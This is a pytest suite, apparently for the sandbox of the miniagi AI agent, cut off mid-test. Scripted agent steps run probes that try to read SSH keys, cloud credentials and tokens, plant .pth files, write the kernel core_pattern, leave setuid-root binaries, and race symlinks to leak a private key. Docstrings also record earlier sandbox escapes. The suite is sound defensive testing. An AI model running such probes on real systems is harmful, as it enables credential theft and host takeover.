"""The sandbox around executed code, tried the way an attacker would (issue 20): `miniagi` as a subprocess against
the scripted endpoint, the code's attempts in its snippets, what held read back from the trace and the disk.

bwrap is installed where the suite runs (.ci/run installs it); the weaker kinds are forced with --sandbox or by a
PATH whose bwrap / unshare refuse, and each must say what it leaves open."""

from __future__ import annotations

import json
import os
import site
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import miniagi

from .conftest import act, one_line, run_dirs
from .test_end_to_end import observations

PACKAGE = Path(miniagi.__file__).resolve().parent


def refusing(tmp_path: Path, *programs: str) -> str:
    """A PATH where these programs exist but fail the way a system without user namespaces makes them fail."""
    fake_bin = tmp_path / "refusing-bin"
    fake_bin.mkdir(exist_ok=True)
    for program in programs:
        script = fake_bin / program
        script.write_text(f"#!/bin/sh\necho '{program}: setting up uid map: Operation not permitted' >&2\nexit 1\n")
        script.chmod(0o755)
    return f"{fake_bin}:{os.environ['PATH']}"


def newest(home: Path) -> tuple[dict, dict]:
    # the last trace written: run ids sort by the second, and two in-process runs can start in the same one
    directory = max(run_dirs(home), key=lambda run: (run / "trace.jsonl").stat().st_mtime_ns)
    result = json.loads((directory / "result.json").read_text())
    trace = [json.loads(line) for line in (directory / "trace.jsonl").read_text().splitlines()]
    return result, observations(trace)


ATTEMPTS = """\
import os, site
def attempt(what, action):
    try:
        print(what, 'OPEN', str(action())[:80].replace('\\n', ' '))
    except OSError as error:
        print(what, 'BLOCKED', error.strerror)
home, agent_home = {user_home!r}, {agent_home!r}
attempt('ssh', lambda: open(home + '/.ssh/id_rsa').read())
attempt('aws', lambda: open(home + '/.aws/credentials').read())
attempt('netrc', lambda: open(home + '/.netrc').read())
attempt('history', lambda: open(home + '/.bash_history').read())
attempt('gh', lambda: open(home + '/.config/gh/hosts.yml').read())
attempt('dotenv', lambda: open('.env').read())
attempt('dotenv-write', lambda: open('.env', 'a').write('OPENAI_BASE_URL=http://127.0.0.1:8400/v1\\n'))
attempt('runs', lambda: os.listdir(agent_home + '/runs'))
attempt('pth', lambda: open(os.path.join({site_packages!r}, 'zz_sandbox_probe.pth'), 'w').write('import os\\n'))
attempt('package', lambda: open({package!r} + '/zz_sandbox_probe.py', 'w').write('x = 1\\n'))
attempt('etc', lambda: open('/etc/zz-sandbox-probe', 'w').write('x'))
attempt('workdir', lambda: open('made-here.txt', 'w').write('written'))
attempt('tmp', lambda: open('/tmp/scratch.txt', 'w').write('written'))
print('PYTHONPATH', os.environ.get('PYTHONPATH'))
"""


def test_with_bwrap_code_changes_only_the_workdir_and_sees_no_secret_nor_the_agents_files(cli, llm, isolated):
    user_home = Path(os.environ["HOME"])
    for name, text in {".ssh/id_rsa": "SSH-KEY-1", ".aws/credentials": "AWS-SECRET-2", ".netrc": "NETRC-PW-3",
                       ".bash_history": "HISTORY-4", ".config/gh/hosts.yml": "GH-TOKEN-5"}.items():
        (user_home / name).parent.mkdir(parents=True, exist_ok=True)
        (user_home / name).write_text(text)
    (isolated.work / ".env").write_text("DOTENV_VALUE=dotenv-6\n")
    site_packages = site.getsitepackages()[0]
    code = ATTEMPTS.format(user_home=str(user_home), agent_home=str(isolated.home), site_packages=site_packages,
                           package=str(PACKAGE))
    llm.add(act("execute_python", code), act("done", "tried"))
    proc = cli("-y", "look around", env={"PYTHONPATH": str(PACKAGE.parent)})
    assert proc.returncode == 0, proc.stderr
    result, seen = newest(isolated.home)
    assert result["sandbox"] == "bwrap" and "sandbox: bwrap" in proc.stderr and "warning" not in proc.stderr
    lines = dict(line.split(" ", 1) for line in seen[1].splitlines() if " " in line)
    for what in ("ssh", "aws", "netrc", "history", "gh", "dotenv-write", "runs", "pth", "package", "etc"):
        assert lines[what].startswith("BLOCKED"), (what, seen[1])
    assert lines["dotenv"].strip() == "OPEN", seen[1]  # a hidden file reads as an empty one (docs/sandbox.md)
    assert lines["workdir"].startswith("OPEN") and lines["tmp"].startswith("OPEN")
    assert lines["PYTHONPATH"] == "None"
    for value in ("SSH-KEY-1", "AWS-SECRET-2", "NETRC-PW-3", "HISTORY-4", "GH-TOKEN-5", "dotenv-6"):
        assert value not in seen[1]
    assert (isolated.work / "made-here.txt").read_text() == "written"
    assert (isolated.work / ".env").read_text() == "DOTENV_VALUE=dotenv-6\n"  # the next run's endpoint stays ours
    assert not (Path(site_packages) / "zz_sandbox_probe.pth").exists()  # the next run executes no code of theirs
    assert not (PACKAGE / "zz_sandbox_probe.py").exists() and not Path("/etc/zz-sandbox-probe").exists()
    assert not Path("/tmp/scratch.txt").exists()  # its /tmp was its own

    # --sandbox-allow reopens one hidden path (read-only outside the work directory), and only that one
    llm.add(act("execute_python", code), act("done", "tried again"))
    proc = cli("-y", "--sandbox-allow", str(user_home / ".aws"), "look again")
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "aws OPEN AWS-SECRET-2" in seen[1] and "ssh BLOCKED" in seen[1] and "dotenv OPEN \n" in seen[1]


@pytest.mark.parametrize("refused, kind", [(("bwrap",), "namespace"), (("bwrap", "unshare"), "none")])
def test_a_weaker_fallback_says_once_what_it_does_not_protect_and_how_to_get_bwrap(cli, llm, isolated, tmp_path,
                                                                                   refused, kind):
    llm.add(act("execute_shell", "echo ran-anyway"), act("execute_python", "print('again')"), act("done", "ok"))
    proc = cli("-y", "run in what there is", env={"PATH": refusing(tmp_path, *refused)})
    assert proc.returncode == 0, proc.stderr
    result, seen = newest(isolated.home)
    assert result["sandbox"] == kind and f"sandbox: {kind}" in proc.stderr
    assert "ran-anyway" in seen[1] and "again" in seen[2]
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1, proc.stderr
    assert "Operation not permitted" in warnings[0] and "apt-get install bubblewrap" in warnings[0]
    assert "~/.ssh" in warnings[0] and "$MINIAGI_HOME" in warnings[0] and ".env" in warnings[0]
    if kind == "none":
        assert "signal it" in warnings[0]  # the agent's process itself is in reach


def test_a_sandbox_that_cannot_be_had_is_one_line_and_exit_2(cli, llm, isolated, tmp_path):
    llm.add(act("done", "never"))
    asked = cli("-y", "--sandbox", "bwrap", "objective", env={"PATH": refusing(tmp_path, "bwrap")})
    assert asked.returncode == 2 and one_line(asked.stderr), asked.stderr
    assert "--sandbox bwrap" in asked.stderr and "apt-get install bubblewrap" in asked.stderr
    offline = cli("-y", "--sandbox", "none", "--no-network", "objective")
    assert offline.returncode == 2 and one_line(offline.stderr) and "--no-network" in offline.stderr
    assert run_dirs(isolated.home) == []
    assert llm.requests == []


@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_no_network_cuts_the_code_off_and_the_default_keeps_it_on(cli, llm, isolated, kind):
    port = llm.url.split(":")[-1].split("/")[0]
    probe = (f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=5).close()\n"
             "    print('REACHED')\nexcept OSError as error:\n    print('CUT OFF', error)")
    llm.add(act("execute_python", probe), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "--no-network", "go offline")
    assert proc.returncode == 0, proc.stderr  # the agent's own model calls still went through
    assert "CUT OFF" in newest(isolated.home)[1][1] and "network off" in proc.stderr
    llm.add(act("execute_python", probe), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "stay online")
    assert proc.returncode == 0, proc.stderr
    assert "REACHED" in newest(isolated.home)[1][1] and "network on" in proc.stderr


CAPS = """\
import ctypes, glob, os, resource
libc = ctypes.CDLL(None, use_errno=True)
print('umount', libc.umount2(b'/proc', 2), len([p for p in os.listdir('/proc') if p.isdigit()]))
for path in glob.glob('/sys/fs/cgroup/**/pids.max', recursive=True)[:20] + \\
        glob.glob('/sys/fs/cgroup/**/memory.limit_in_bytes', recursive=True)[:20] + \\
        glob.glob('/sys/fs/cgroup/*/cgroup.procs') + glob.glob('/sys/fs/cgroup/cgroup.procs'):
    try:
        open(path, 'w').write('max' if path.endswith('pids.max') else '-1' if 'memory' in path else str(os.getpid()))
        print('RAISED', path)
    except OSError:
        pass
for limit in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print('RAISED rlimit', limit)
    except (ValueError, OSError):
        pass
print('checked')
"""


@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_the_hosts_proc_cannot_come_back_and_no_cap_can_be_raised_from_inside(cli, llm, isolated, kind):
    llm.add(act("execute_python", CAPS), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "escape the limits")
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1][1]
    unmounted, visible = seen.splitlines()[0].split()[1:]
    assert unmounted == "-1" and int(visible) <= 3, seen  # /proc still shows only the code's own processes
    assert "RAISED" not in seen and "checked" in seen, seen


def test_shared_memory_counts_against_exec_memory(cli, llm, isolated):
    llm.add(act("execute_python", "import mmap\nshared = mmap.mmap(-1, 1536 * 2**20)\n"
                                  "for i in range(0, len(shared), 4096):\n    shared[i] = 1\nprint('PASSED THE CAP')"),
            act("execute_python", "print('still working')"), act("done", "ok"))
    proc = cli("-y", "--exec-memory", "256", "--exec-timeout", "120", "allocate", timeout=300)
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1]
    if "shared memory (mmap) is not counted" in proc.stderr:  # no memory cgroup on this system: said so
        pytest.skip("no memory cgroup here; the run warned that shared memory is not counted")
    assert "PASSED THE CAP" not in seen[1] and "ran out of memory" in seen[1] and "256 MB" in seen[1]
    assert "still working" in seen[2]


def test_disk_writes_are_capped_for_the_whole_run(cli, llm, isolated):
    llm.add(act("execute_python", "open('a.bin', 'wb').write(b'a' * 30 * 2**20)\nprint('first written')"),
            act("execute_shell", "head -c 30000000 /dev/zero > b.bin; echo second done"),
            act("execute_shell", "echo third > c.txt"),
            act("done", "ok"))
    proc = cli("-y", "--exec-disk", "40", "fill the disk")
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1]
    assert "first written" in seen[1]
    # no file may outgrow what is left of the allowance
    assert "File too large" in seen[2] or "File size limit exceeded" in seen[2]
    assert "Not run" in seen[3] and "--exec-disk" in seen[3]
    assert not (isolated.work / "c.txt").exists()
    written = sum(path.stat().st_size for path in isolated.work.glob("*.bin"))
    assert 30 * 2**20 <= written <= 40 * 2**20


SWAP = """\
import os
print('stdout is', os.readlink('/proc/self/fd/1'))
{make}
os.dup2(swapped, 1)
os.dup2(swapped, 2)
"""
SWAPPED_IN = ("swapped = os.open('/proc/%d/environ' % os.getppid(), os.O_RDONLY)",  # the agent's, under none
              "os.mkfifo('swap-fifo')\nswapped = os.open('swap-fifo', os.O_RDWR)",
              "swapped = os.open('/dev/zero', os.O_RDWR)")


@pytest.mark.parametrize("kind", ["bwrap", "none"])
def test_a_snippet_cannot_swap_what_the_agent_reads_for_its_output(cli, llm, isolated, kind):
    """The agent reads a snippet's output through a descriptor it holds, never by path (the file has no name):
    a link to the agent's environment, a FIFO or /dev/zero put in its place changes nothing, whatever the
    sandbox."""
    for make in SWAPPED_IN:
        llm.add(act("execute_python", SWAP.format(make=make)), act("execute_python", "print('still talking')"))
    llm.add(act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "--exec-timeout", "30", "swap the output",
               env={"REDIS_PW": "plain-redis-8812"}, process=True)  # the agent's own environ, in /proc
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert all(seen[step].startswith("stdout is") and seen[step].split("\n")[0].endswith("(deleted)")
               for step in (1, 3, 5)), seen
    assert all(seen[step].startswith("still talking") for step in (2, 4, 6)), seen
    files = [p for p in run_dirs(isolated.home)[-1].rglob("*") if p.is_file()]  # the checkpoints too
    everything = json.dumps(llm.requests) + "".join(p.read_bytes().decode("latin-1") for p in files)
    assert "plain-redis-8812" not in everything + proc.stdout + proc.stderr


FLOOD = """\
import os
answers = int(open('/proc/self/cmdline', 'rb').read().split(b'\\0')[-3])  # the worker's answer channel
line = b'{"id": -1, "status": "ok"}\\n' * 4096
while True:
    os.write(answers, line)
"""


def test_flooding_the_answer_channel_does_not_defeat_the_timeout(cli, llm, isolated):
    garbage = "import os\nanswers = int(open('/proc/self/cmdline', 'rb').read().split(b'\\0')[-3])\n" \
              "os.write(answers, b'x' * 17 * 2**20)"
    llm.add(act("execute_python", "kept = 'state'"), act("execute_python", FLOOD), act("execute_python", "print(kept)"),
            act("execute_python", garbage), act("execute_python", "print('fresh worker')"), act("done", "ok"))
    proc = cli("-y", "--exec-timeout", "5", "flood", timeout=180)
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1]
    assert "Timed out after 5 s" in seen[2], seen[2]
    assert seen[3].startswith("state")  # the flood was interrupted; the session lived on
    assert "answer channel" in seen[4] and "fresh worker" in seen[5]


SHADOWS = ("json", "random", "secrets", "typing", "memory", "miniagi")


def test_modules_in_the_workdir_shadow_nothing_of_the_agent_but_user_code_imports_them(cli, llm, isolated):
    for name in SHADOWS:
        (isolated.work / f"{name}.py").write_text(f"raise SystemExit('the {name}.py of the work directory ran')\n")
    (isolated.work / "helpers.py").write_text("GREETING = 'from my own module'\n")
    (isolated.work / "jobs.txt").write_text("say hi\n")
    llm.add(act("execute_python", "import helpers\nprint(helpers.GREETING)"), act("done", "hi"))
    env = dict(os.environ, OPENAI_BASE_URL=llm.url, OPENAI_API_KEY="sk-test-key-123456",
               MINIAGI_MEMORY_SCOPE="off", MINIAGI_YES="true")
    # the batch's own process is started safely here (-P); it starts each objective's run in this folder (named:
    # else each objective works in a folder of its own)
    batch = subprocess.run([sys.executable, "-P", "-m", "miniagi", "batch", "jobs.txt", "--workers", "1",
                            "--workdir", "."],
                           cwd=isolated.work, env=env, capture_output=True, text=True, timeout=240,
                           stdin=subprocess.DEVNULL)
    assert batch.returncode == 0, batch.stderr
    (record,) = [json.loads(line) for line in (isolated.work / "jobs-txt-results" / "results.jsonl").read_text()
                 .splitlines()]
    assert record["status"] == "done", record
    _, seen = newest(isolated.home)
    assert "from my own module" in seen[1]
    assert "work directory ran" not in batch.stdout + batch.stderr + json.dumps(seen)


DOTFILES = {".bashrc": "alias ls='ls'  # BASHRC-MARK-1", ".zshenv": "export OPENAI_API_KEY=sk-zshenv-fake-4242",
            ".gitconfig": "[github]\n\ttoken = ghp_gitconfig-fake-7777", ".profile": "PROFILE-MARK-2"}
DOTFILE_READS = """\
import os
for path in {paths!r}:
    try:
        print(path, 'OPEN', open(path).read()[:60].replace('\\n', ' '))
    except OSError as error:
        print(path, 'BLOCKED', error.strerror)
try:
    print('listing', sorted(os.listdir({home!r})))
except OSError as error:
    print('listing BLOCKED', error.strerror)
open('written-by-code.txt', 'w').write('mine')
print('workdir written')
"""


def test_with_bwrap_the_users_home_is_empty_but_for_the_work_directory(cli, llm, isolated):
    """Rule (a) of issue 29: whatever the user keeps in a home (theirs, /root, /home/*), code sees an empty
    directory there; the work directory, bound back, stays writable, and so do its own dotfiles."""
    user_home = Path(os.environ["HOME"])
    user_home.mkdir(parents=True, exist_ok=True)
    for name, text in DOTFILES.items():
        (user_home / name).write_text(text)
    paths = [str(user_home / name) for name in DOTFILES]
    paths += [p for p in ("/root/.bashrc", "/root/.profile") if os.path.exists(p)]
    code = DOTFILE_READS.format(paths=paths, home=str(user_home))
    shell = f"cat {' '.join(paths)} 2>&1; ls -A {user_home} /root 2>&1; echo shell > shell-wrote.txt && echo ok"
    llm.add(act("execute_python", code), act("execute_shell", shell), act("done", "tried"))
    proc = cli("-y", "--sandbox", "bwrap", "read the dotfiles")
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    for path in paths:
        assert f"{path} BLOCKED" in seen[1], seen[1]
    assert "listing []" in seen[1] and "workdir written" in seen[1]
    for text in (*DOTFILES.values(), "sk-zshenv-fake-4242", "ghp_gitconfig-fake-7777", "BASHRC-MARK-1"):
        assert text.split("\n")[-1] not in seen[1] + seen[2], text
    assert "\nok\n" in seen[2] and "exit code 0" in seen[2], seen[2]
    assert (isolated.work / "written-by-code.txt").read_text() == "mine"
    assert (isolated.work / "shell-wrote.txt").read_text() == "shell\n"


CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
ROOT_WRITES = """\
import os
def attempt(what, path, data):
    try:
        fd = os.open(path, os.O_WRONLY)
        try:
            if data:
                os.write(fd, data)
        finally:
            os.close(fd)
        print(what, 'OPEN')
    except OSError as error:
        print(what, 'BLOCKED', error.strerror)
attempt('core_pattern', '/proc/sys/kernel/core_pattern', b'core.miniagi-probe')
attempt('hostname', '/proc/sys/kernel/hostname', b'')
attempt('sysrq', '/proc/sysrq-trigger', b'')  # opened, never written
uid_map = open('/proc/self/uid_map').read().split()
inside = os.getuid()
outside = next((int(uid_map[i + 1]) + inside - int(uid_map[i]) for i in range(0, len(uid_map), 3)
                if int(uid_map[i]) <= inside < int(uid_map[i]) + int(uid_map[i + 2])), None)
print('uid inside', inside, 'outside', outside)
open('still-writable.txt', 'w').write('yes')
print('workdir written')
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="only real root can write /proc/sys; as a user the kernel refuses")
@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_as_root_code_cannot_write_proc_sys_and_bwrap_runs_it_as_no_host_root(cli, llm, isolated, kind):
    """Issue 29: as root, code in the sandbox wrote /proc/sys/kernel/core_pattern (a `|program` there runs as the
    host's root at the next crash). /proc is read-only in both namespace kinds; under bwrap the code's uid is not
    the host's root at all, and the work directory stays writable."""
    before = CORE_PATTERN.read_bytes()
    llm.add(act("execute_python", ROOT_WRITES), act("execute_shell", "echo core.shell-probe > "
                                                                      "/proc/sys/kernel/core_pattern; echo $?"),
            act("done", "ok"))
    try:
        proc = cli("-y", "--sandbox", kind, "--debug", "write the kernel settings")  # the sandbox said in full
        assert proc.returncode == 0, proc.stderr
        _, seen = newest(isolated.home)
    finally:
        after = CORE_PATTERN.read_bytes()
        if after != before:
            CORE_PATTERN.write_bytes(before)  # put the host back before failing
    assert after == before
    for what in ("core_pattern", "hostname", "sysrq"):
        assert f"{what} BLOCKED" in seen[1], seen[1]
    assert "workdir written" in seen[1] and (isolated.work / "still-writable.txt").read_text() == "yes"
    assert (isolated.work / "still-writable.txt").stat().st_uid == isolated.work.stat().st_uid
    assert "exit code 0" not in seen[2] or "\n0\n" not in seen[2], seen[2]
    if kind == "bwrap":
        outside = seen[1].split("uid inside ")[1].split()[2]
        assert outside not in ("0", "None"), seen[1]
        assert "code runs as nobody" in proc.stderr
    else:
        assert "code's uid is the host's root" in proc.stderr and "/proc/sys" in proc.stderr  # the warning says so


def test_a_looping_link_where_bwrap_hides_stops_the_run_instead_of_dropping_to_namespace(cli, llm, isolated):
    """Code's `ln -s .env .env` in the work directory made the next run's bwrap fail (it cannot bind an empty file
    over a link that loops), and auto fell back to namespace, where code read ~/.ssh. The run stops now, naming
    the link, and nothing runs."""
    (isolated.work / ".env").symlink_to(".env")
    llm.add(act("execute_shell", "echo ran"), act("done", "never"))
    proc = cli("-y", "objective")
    assert proc.returncode == 2 and one_line(proc.stderr), proc.stderr
    assert f"{isolated.work / '.env'} is a link that leads back to itself" in proc.stderr
    assert llm.requests == [] and run_dirs(isolated.home) == []


def test_auto_falls_back_only_when_bwrap_itself_cannot_start_not_when_the_runs_mounts_fail(cli, llm, isolated,
                                                                                          tmp_path):
    """What the run's mounts meet in the work directory is code's to shape: a bwrap that starts here but fails
    with this run's plan is an error that says so (exit 2), never a reason to run under namespace."""
    plan_bin = tmp_path / "plan-bin"
    plan_bin.mkdir()
    real_bwrap = subprocess.run(["sh", "-c", "command -v bwrap"], capture_output=True, text=True).stdout.strip()
    (plan_bin / "bwrap").write_text(f"""#!/bin/sh
case "$*" in *{isolated.work}*) echo "bwrap: Can't create file at {isolated.work}/x: Permission denied" >&2; exit 1;;
esac
exec {real_bwrap} "$@"
""")
    (plan_bin / "bwrap").chmod(0o755)
    llm.add(act("execute_shell", "echo ran"), act("done", "never"))
    proc = cli("-y", "objective", env={"PATH": f"{plan_bin}:{os.environ['PATH']}"})
    assert proc.returncode == 2 and one_line(proc.stderr), proc.stderr
    assert "bwrap works here, but not with this run's mounts" in proc.stderr and "Permission denied" in proc.stderr
    assert llm.requests == [] and run_dirs(isolated.home) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="the host's ids matter only when miniagi runs as root")
def test_as_root_bwrap_says_when_its_code_keeps_the_hosts_uid_0_and_proc_stays_read_only(cli, llm, isolated,
                                                                                         tmp_path):
    """Without nsenter (or an idmapped mount) the code's uid stays the host's root: the sandbox line says so and
    why, and /proc is read-only all the same."""
    before = CORE_PATTERN.read_bytes()
    llm.add(act("execute_python", ROOT_WRITES), act("done", "ok"))
    try:
        proc = cli("-y", "--sandbox", "bwrap", "write the kernel settings",
                   env={"PATH": refusing(tmp_path, "nsenter")})
        assert proc.returncode == 0, proc.stderr
        _, seen = newest(isolated.home)
    finally:
        after = CORE_PATTERN.read_bytes()
        if after != before:
            CORE_PATTERN.write_bytes(before)
    assert after == before and "core_pattern BLOCKED" in seen[1] and "workdir written" in seen[1], seen[1]
    assert "code's uid is the host's root (the system refused it (nsenter: " in proc.stderr, proc.stderr


ABSTRACT = """\
import socket
for name, family, address in (('abstract', socket.AF_UNIX, {abstract!r}),
                              ('network', socket.AF_INET, ('127.0.0.1', {port}))):
    probe = socket.socket(family, socket.SOCK_STREAM)
    probe.settimeout(5)
    try:
        probe.connect(address)
        print(name, 'CONNECTED')
    except OSError as error:
        print(name, 'BLOCKED', error.strerror)
    finally:
        probe.close()
"""


@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_with_the_network_on_code_reaches_the_network_but_no_abstract_socket_of_the_host(cli, llm, isolated, kind):
    """Issue 29: X11's @/tmp/.X11-unix/X0, D-Bus or containerd listen on abstract unix sockets, which belong to
    the network namespace code shares with the host when the network is on. Landlock scopes them away."""
    import ctypes
    import secrets
    import socket

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(444, None, 0, 1) < 6:  # landlock_create_ruleset(…, LANDLOCK_CREATE_RULESET_VERSION)
        pytest.skip("no Landlock ABI 6 (Linux 6.12+) here: the sandbox line says the sockets are reachable")
    name = f"\0miniagi-test-{secrets.token_hex(4)}"
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(name)
    listener.listen(8)
    port = llm.url.split(":")[-1].split("/")[0]
    try:
        llm.add(act("execute_python", ABSTRACT.format(abstract=name, port=port)),
                act("execute_shell", "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); "
                                     f"s.connect({name!r}); print('SHELL CONNECTED')\" 2>&1 | tail -1"),
                act("done", "ok"))
        proc = cli("-y", "--sandbox", kind, "reach the desktop")
    finally:
        listener.close()
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "abstract BLOCKED" in seen[1] and "network CONNECTED" in seen[1], seen[1]
    assert "SHELL CONNECTED" not in seen[2] and "Operation not permitted" in seen[2], seen[2]
    assert "abstract unix sockets reachable" not in proc.stderr


@pytest.mark.parametrize("kind", ["bwrap", "none"])
def test_exec_disk_counts_allocated_blocks_and_files_whatever_call_made_them(cli, llm, isolated, kind):
    """Issue 29: posix_fallocate dirties no page, so 160 MB of real blocks went unseen under a 20 MB limit; and
    empty files cost inodes, not bytes. Both now stop the code, and nothing more runs."""
    (isolated.work / "before.bin").write_bytes(b"x" * 25 * 2**20)  # the user's files are not the code's
    # each file under the per-file cap (RLIMIT_FSIZE refuses one of 160 MB), 160 MB in all
    llm.add(act("execute_python", "import os, time\nfor i in range(8):\n"
                                  "    fd = os.open(f'big{i}.bin', os.O_CREAT | os.O_WRONLY)\n"
                                  "    os.posix_fallocate(fd, 0, 20 * 2**20 - 4096)\n"
                                  "print('allocated')\ntime.sleep(60)\nprint('slept through')"),
            act("execute_shell", "echo more > more.txt"),
            act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "--exec-disk", "20", "--exec-timeout", "90", "allocate")
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1]
    # (fallocate is refused and posix_fallocate writes its blocks: stopped as it writes, or once written, issue 45)
    assert "slept through" not in seen[1] and "--exec-disk" in seen[1], seen[1]
    assert "Not run" in seen[2] and not (isolated.work / "more.txt").exists(), seen[2]
    real = sum(path.stat().st_blocks * 512 for path in isolated.work.glob("big*.bin"))
    assert real > 20 * 2**20  # the blocks were real: past the limit, what stopped the code

    many = "import os\nos.mkdir('many')\nfor i in range(30000):\n    open(f'many/{i}', 'w').close()\nprint('made')"
    llm.add(act("execute_python", many), act("execute_python", "print('after')"), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "--exec-disk", "20", "--exec-timeout", "90", "make files")
    assert proc.returncode == 0, proc.stderr
    seen = newest(isolated.home)[1]
    assert "files in the work directory" in seen[1] + seen[2] and "10,000" in seen[1] + seen[2], seen
    assert "Not run" in seen[2] or "Stopped" in seen[1], seen
    assert "after" not in seen[2]


def test_code_cannot_read_what_bwrap_hides_through_the_agents_own_read(cli, llm, isolated):
    """The agent reads files outside the sandbox: code called read() on ~/.ssh/id_ed25519, ~/.bashrc and the
    agent's home and got them, and a link it planted in the work directory led a later step's process_data there."""
    user_home = isolated.work.parent / "user-home"
    (user_home / ".ssh").mkdir(parents=True)
    (user_home / ".ssh" / "id_ed25519").write_text("PRIVATE-KEY-BODY\n")
    (user_home / ".bashrc").write_text("BASHRC-BODY\n")
    isolated.home.mkdir(parents=True, exist_ok=True)
    (isolated.home / "agent-file.txt").write_text("AGENT-HOME-BODY\n")
    (isolated.work / "notes.txt").write_text("NOTES-BODY\n")
    code = ("for p in ['~/.ssh/id_ed25519', '~/.bashrc', " + repr(str(isolated.home / "agent-file.txt"))
            + ", 'notes.txt']:\n    print(p, str(read(p)))\n"
            + f"import os\nos.symlink({str(user_home / '.ssh' / 'id_ed25519')!r}, 'planted.txt')\n")
    llm.add(act("execute_python", code), act("process_data", "what is it?|planted.txt"),
            act("done", "ok"))
    proc = cli("-y", "--sandbox", "bwrap", "read them", process=True)
    assert proc.returncode == 0, proc.stderr
    seen = json.dumps(llm.requests)
    assert "NOTES-BODY" in seen  # the work directory is code's to read
    for secret in ("PRIVATE-KEY-BODY", "BASHRC-BODY", "AGENT-HOME-BODY"):
        assert secret not in seen
    assert seen.count("is hidden from executed code by the sandbox") >= 4
    assert "planted.txt is hidden from executed code" in seen  # the model's own step, led by a planted link


def _writable_sys_knob() -> str | None:
    """A kernel setting under /sys that this process could write (opened for writing, never written)."""
    for knob in ("/sys/module/printk/parameters/time", "/sys/kernel/mm/transparent_hugepage/enabled",
                 "/sys/kernel/mm/transparent_hugepage/defrag"):
        try:
            os.close(os.open(knob, os.O_WRONLY))
            return knob
        except OSError:
            continue
    return None


@pytest.mark.skipif(os.geteuid() != 0 or _writable_sys_knob() is None,
                    reason="only real root can write the kernel's settings under /sys")
@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_as_root_code_cannot_open_the_kernels_settings_under_sys_for_writing(cli, llm, isolated, kind):
    """/proc was made read-only, but under namespace /sys stayed writable: root code could open module
    parameters and transparent_hugepage (uevent_helper, where it exists, runs a program as the host's root)."""
    code = (f"import os\ntry:\n    os.close(os.open({_writable_sys_knob()!r}, os.O_WRONLY))\n    print('SYS OPENED')\n"
            "except OSError as exc:\n    print('SYS BLOCKED', exc.strerror)\n")
    llm.add(act("execute_python", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "touch the kernel", process=True)
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "SYS BLOCKED" in seen[1] and "SYS OPENED" not in seen[1], seen[1]


@pytest.mark.skipif(os.geteuid() != 0, reason="code's files are the host root's only when miniagi runs as root")
@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_as_root_code_leaves_no_setuid_or_setgid_file_behind(cli, llm, isolated, kind):
    """Files code writes are stored as the work directory's owner, here the host's root: `cp /usr/bin/id x; chmod
    4755 x` left a setuid-root program any local user could run. Every way to such a mode is refused now, while
    ordinary modes still work."""
    code = """import os, stat, subprocess
open('plain', 'w').close()
for what, call in [('chmod-4755', lambda: os.chmod('plain', 0o4755)), ('chmod-2755', lambda: os.chmod('plain', 0o2755)),
                   ('open-4755', lambda: os.close(os.open('made', os.O_CREAT | os.O_WRONLY, 0o4755))),
                   ('mkdir-2777', lambda: os.mkdir('shared', 0o2777)),
                   ('caps', lambda: os.setxattr('plain', 'security.capability', bytes(20)))]:
    try:
        call()
        print(what, 'DONE')
    except OSError as exc:
        print(what, 'REFUSED', exc.strerror)
os.chmod('plain', 0o755)
print('ordinary', oct(stat.S_IMODE(os.stat('plain').st_mode)))
print(subprocess.run('cp /usr/bin/id myid && chmod u+s myid; ls -l myid', shell=True, capture_output=True,
                     text=True).stdout)
"""
    llm.add(act("execute_python", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "make a setuid file", process=True)
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "DONE" not in seen[1] and seen[1].count("REFUSED") == 5, seen[1]
    assert "ordinary 0o755" in seen[1], seen[1]
    found = [p for p in isolated.work.rglob("*") if p.lstat().st_mode & 0o6000]
    assert not found, found


def test_a_link_swapped_while_the_agent_reads_does_not_lead_it_to_a_hidden_file(cli, llm, isolated):
    """The hidden-file check went by name, then the file was opened: a thread of code's swapping planted.txt
    between a file and a link to ~/.ssh/id_ed25519 got the key through read() (55 of 400 reads). What was
    opened is judged now."""
    secret = isolated.work.parent / "user-home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_text("PRIVATE-KEY-BODY\n")
    code = f"""import os, threading
stop = False
def swap():
    while not stop:
        try:
